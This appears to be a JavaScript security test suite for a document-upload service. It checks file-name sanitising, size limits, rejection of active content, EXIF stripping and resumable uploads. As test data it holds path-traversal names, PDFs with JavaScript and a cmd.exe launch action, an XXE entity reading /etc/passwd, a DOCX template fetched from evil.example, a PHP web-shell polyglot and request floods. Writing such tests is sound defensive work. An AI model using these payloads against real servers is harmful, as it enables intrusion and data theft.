// Names, sizes and contents nobody means well with.
import { join } from 'node:path';
import { browser } from '../engine.mjs';
import { MAX, PAGES, docx, pdf, xlsx } from './containers.mjs';
import { Hall, PAGE, PIECE, check, files, picture, same, size } from './kit.mjs';
import { raw } from './requests.mjs';

/// Somebody with a draft at a hall.
export async function drafted() {
  const hall = await Hall.open();
  const zhou = await hall.citizen();
  const draft = (await zhou.post(`/api/items/${await hall.item()}/cases`)).json;
  return { hall, zhou, id: draft.id };
}

/// Whoever goes on sending may lose the refusal to the connection's end (RFC 9112, 9.6), and asks again.
async function answer(port, bytes) {
  for (let n = 0; n < 4; n++) {
    const text = await raw(port, bytes, 4000);
    if (text) return text;
  }
  return '';
}

export default [
  {
    id: 'T08', name: 'file names', quick: true,
    async run() {
      const { hall, zhou, id } = await drafted();
      try {
        const names = ['../../etc/passwd', '..\\..\\x.png', '/abs.png', 'a\0.pdf', 'CON', '.htaccess', '汉'.repeat(300), '\u202efdp.exe', 'a\nb".png', "a';.png", '%2e%2e%2f.png', '', '.', '..', '\u200b\u200b', 'a'.repeat(5000)];
        for (const name of names) {
          const reply = await zhou.upload(id, 'identity', name, PAGE);
          if (reply.status === 409) { await zhou.post(`/api/cases/${id}/discard`); break; }
          same(reply.status, 204, `"${name.slice(0, 20)}": ${reply.text}`);
          const file = await zhou.get(`/api/files/${reply.id}`);
          const named = file.headers['content-disposition'];
          check(/^attachment; filename="[\w.-]+"; filename\*=UTF-8''[\w.%-]+$/.test(named), named);
          check(!decodeURIComponent(named.split("''")[1]).match(/[/\\\0\n\u202e]/), named);
        }
        const kept = files(join(hall.data, 'files'));
        const odd = kept.filter((it) => !/\/(kept\/[0-9a-f]{2}\/[0-9a-f]{64}|tmp\/[0-9a-f]{32})$/.test(it));
        same(odd, [], 'files under other names');
        return { names: names.length, outside: 0 };
      } finally { await hall.close(); }
    },
  },
  {
    id: 'T09', name: 'sizes', quick: true, alone: true,
    async run() {
      const { hall, zhou, id } = await drafted();
      try {
        same((await zhou.begin(id, 'identity', 'a.png', 0)).status, 422, 'nothing');
        same((await zhou.begin(id, 'identity', 'a.png', MAX)).status, 201, 'exactly the most');
        same((await zhou.begin(id, 'identity', 'a.png', MAX + 1)).status, 413, 'one byte more');
        same((await zhou.begin(id, 'identity', 'a.png', -1)).status, 422, 'less than nothing');
        check([413, 415].includes((await zhou.begin(id, 'identity', 'a.png', '99999999999999999999')).status), 'more than a number holds');
        const made = (await zhou.begin(id, 'identity', 'a.png', 1000)).headers.location;
        const more = await zhou.ask('PATCH', made, { headers: { ...PIECE, 'upload-offset': '0' }, body: Buffer.alloc(1001) });
        same(more.status, 409, 'more than was said');
        const before = hall.rss();
        // Endless: a chunked body without an end, and ten gigabytes announced.
        const cookie = zhou.cookie;
        const head = (more) => `PATCH ${made} HTTP/1.1\r\nHost: x\r\nCookie: ${cookie}\r\nSec-Fetch-Site: same-origin\r\nX-Requested-By: hall\r\nTus-Resumable: 1.0.0\r\nUpload-Offset: 0\r\nContent-Type: application/offset+octet-stream\r\n${more}\r\n\r\n`;
        const piece = 'a'.repeat(65_536);
        const endless = await answer(hall.port, head('Transfer-Encoding: chunked') + `10000\r\n${piece}\r\n`.repeat(160));
        check(/^HTTP\/1\.1 4/.test(endless), `an endless body: ${endless.slice(0, 40)}`);
        const huge = await answer(hall.port, head('Content-Length: 10737418240') + piece.repeat(160));
        check(/^HTTP\/1\.1 4/.test(huge), `ten gigabytes: ${huge.slice(0, 40)}`);
        const short = await raw(hall.port, head('Content-Length: 900') + 'a'.repeat(100), 300);
        check(!/^HTTP\/1\.1 5/.test(short), `less than announced: ${short.slice(0, 40)}`);
        const grown = hall.rss() - before;
        check(grown < 64, `${grown.toFixed(0)} MB more`);
        // Nobody finishes them: a day later nothing is left.
        await hall.walk(25 * 3_600_000);
        same(files(join(hall.data, 'files/tmp')), [], 'left over');
        return { grown_mb: grown.toFixed(0), left_bytes: size(join(hall.data, 'files/tmp')) };
      } finally { await hall.close(); }
    },
  },
  {
    id: 'T10', name: 'active and misnamed content', quick: true,
    async run() {
      const { hall, zhou, id } = await drafted();
      try {
        const script = '<script>document.title="ran"</script>';
        const catalog = (more) => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;
        const bad = {
          'html as pdf': Buffer.from(`<html>${script}</html>`),
          'svg': Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`),
          'pdf with /JS': pdf(catalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), ...PAGES),
          'pdf with /Launch': pdf(catalog('/OpenAction << /S /Launch /F (cmd.exe) >>'), ...PAGES),
          'pdf with /EmbeddedFile': pdf(catalog('/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>'), ...PAGES, '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'),
          'pdf with /AA': pdf(catalog('/AA << /WC << /S /JavaScript /JS (1) >> >>'), ...PAGES),
          'docm': docx([['word/vbaProject.bin', Buffer.from('macro')]]),
          'docx with a template from elsewhere': docx([['word/_rels/settings.xml.rels', Buffer.from('<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>')]]),
          'docx with an entity': docx([], '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'),
          'xlsx with an external link': xlsx([['xl/externalLinks/externalLink1.xml', Buffer.from('<externalLink/>')]]),
          'docx with an OLE object': docx([['word/embeddings/oleObject1.bin', Buffer.from('MZ')]]),
          'exe': Buffer.from('MZ\x90\x00'.repeat(100), 'latin1'),
          'text': Buffer.from('hello'),
        };
        const accepted = [];
        for (const [name, bytes] of Object.entries(bad)) {
          const reply = await zhou.upload(id, 'identity', `${name}.pdf`, bytes);
          if (![415, 422].includes(reply.status)) accepted.push(`${name}: ${reply.status}`);
        }
        same(accepted, [], 'accepted');
        // Polyglots are re-drawn: what comes back is the picture and nothing behind it.
        for (const tail of [`<html>${script}`, 'PK\x03\x04gifar', '<?php system($_GET[0]) ?>']) {
          const reply = await zhou.upload(id, 'identity', 'both.png', Buffer.concat([PAGE, Buffer.from(tail, 'latin1')]));
          same(reply.status, 204, 'a picture with a tail');
          const back = await zhou.get(`/api/files/${reply.id}`);
          check(!back.bytes.includes(Buffer.from(tail.slice(0, 12), 'latin1')), 'the tail came back');
          same([back.headers['x-content-type-options'], back.headers['content-disposition'].split(';')[0]], ['nosniff', 'attachment'], 'headers');
          check(/sandbox/.test(back.headers['content-security-policy']), 'sandbox');
        }
        const good = await zhou.upload(id, 'premises', 'a.pdf', pdf(catalog(''), ...PAGES));
        same(good.status, 204, `an honest PDF: ${good.text}`);
        const engine = await browser();
        try {
          const context = await engine.newContext({ serviceWorkers: 'block' });
          await context.addCookies([{ name: '__Host-sid', value: zhou.cookie.split('=')[1], domain: 'localhost', path: '/', secure: true, httpOnly: true, sameSite: 'Lax' }]);
          const tab = await context.newPage();
          let ran = false;
          tab.on('dialog', (it) => { ran = true; it.dismiss(); });
          const [download] = await Promise.all([tab.waitForEvent('download', { timeout: 5000 }).catch(() => null), tab.goto(`${hall.origin}/api/files/${good.id}`).catch(() => {})]);
          check(download, 'a file opened as a page');
          check(!ran && await tab.title() !== 'ran', 'a script ran');
        } finally { await engine.close(); }
        return { refused: Object.keys(bad).length, accepted: 0 };
      } finally { await hall.close(); }
    },
  },
  {
    id: 'T13', name: 'where a photo was taken', quick: true,
    async run() {
      const { hall, zhou, id } = await drafted();
      try {
        // A JPEG drawn by the browser, with an EXIF block that tells a place put into it.
        const engine = await browser();
        let jpeg;
        try {
          const tab = await engine.newPage();
          const base64 = await tab.evaluate(() => { const it = document.createElement('canvas'); it.width = 800; it.height = 1000; const ink = it.getContext('2d'); ink.fillStyle = '#fff'; ink.fillRect(0, 0, 800, 1000); ink.fillStyle = '#000'; ink.font = '40px sans-serif'; for (let y = 60; y < 950; y += 60) ink.fillText('Lines of a paper 123456', 40, y); return it.toDataURL('image/jpeg').split(',')[1]; });
          jpeg = Buffer.from(base64, 'base64');
        } finally { await engine.close(); }
        const gps = Buffer.from('4d4d002a0000000800018825000400000001000000200000000000000000000000060001000200000002 4e000000000200050000000300000060'.replaceAll(' ', ''), 'hex');
        const exif = Buffer.concat([Buffer.from('Exif\0\0GPS-MARKER 28.2N 112.9E', 'latin1'), gps]);
        const length = Buffer.alloc(2);
        length.writeUInt16BE(exif.length + 2);
        const tagged = Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xe1]), length, exif, jpeg.subarray(2)]);
        check(tagged.includes('GPS-MARKER'), 'the mark is in');
        const made = await zhou.upload(id, 'identity', 'photo.jpg', tagged);
        same(made.status, 204, made.text);
        const back = await zhou.get(`/api/files/${made.id}`);
        const left = ['Exif', 'GPS-MARKER'].filter((it) => back.bytes.includes(it));
        same(left, [], 'left in the file');
        return { tags_left: 0 };
      } finally { await hall.close(); }
    },
  },
  {
    id: 'T14', name: 'resumed uploads', quick: true,
    async run() {
      const { hall, zhou, id } = await drafted();
      try {
        const bytes = picture({ width: 2400, height: 3200, noise: true });
        const { createHash } = await import('node:crypto');
        const made = (await zhou.begin(id, 'identity', 'a.png', bytes.length)).headers.location;
        let [seed, at, cuts] = [7, 0, 0];
        const random = (n) => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) % n;
        while (at < bytes.length) {
          // The line goes in the middle of a piece: what arrived of it is not kept, what was acknowledged is.
          if (cuts < 20 && at > 0) {
            const piece = bytes.subarray(at, at + 60_000 + random(60_000));
            await raw(hall.port, Buffer.concat([Buffer.from(`PATCH ${made} HTTP/1.1\r\nHost: x\r\nCookie: ${zhou.cookie}\r\nSec-Fetch-Site: same-origin\r\nX-Requested-By: hall\r\nTus-Resumable: 1.0.0\r\nUpload-Offset: ${at}\r\nContent-Type: application/offset+octet-stream\r\nContent-Length: ${piece.length}\r\n\r\n`), piece.subarray(0, random(piece.length))]), 120);
            if (cuts === 10) { await hall.stop('SIGKILL'); await hall.start(); }
            cuts++;
          }
          const now = Number((await zhou.ask('HEAD', made, { headers: { 'tus-resumable': '1.0.0' } })).headers['upload-offset']);
          check(now >= at && now <= bytes.length, `goes on from ${now}, not ${at}`);
          at = now;
          const piece = bytes.subarray(at, at + Math.ceil(bytes.length / 24));
          const wrong = await zhou.ask('PATCH', made, { headers: { ...PIECE, 'upload-offset': at + 1 }, body: piece });
          same(wrong.status, 409, 'a wrong offset');
          const sum = await zhou.ask('PATCH', made, { headers: { ...PIECE, 'upload-offset': at, 'upload-checksum': `sha1 ${createHash('sha1').update('other').digest('base64')}` }, body: piece });
          same(sum.status, 460, 'a wrong checksum');
          const reply = await zhou.ask('PATCH', made, { headers: { ...PIECE, 'upload-offset': at, 'upload-checksum': `sha256 ${createHash('sha256').update(piece).digest('base64')}` }, body: piece });
          if (reply.status === 423) continue;
          same(reply.status, 204, reply.text);
          at += piece.length;
        }
        const slots = (await zhou.get(`/api/cases/${id}/materials`)).json;
        const file = slots.find((it) => it.material.slot === 'identity').files[0];
        same(file.state, 'ready', 'state');
        const back = await zhou.get(`/api/files/${file.id}`);
        check(back.status === 200 && back.bytes.length > 1000, 'the file opens, with the digest it was taken in with');
        same(hall.sql("select count(*) from files where state = 'pending'"), '0', 'pending rows');
        return { cuts, bytes: bytes.length, digests_ok: '1/1' };
      } finally { await hall.close(); }
    },
  },
];
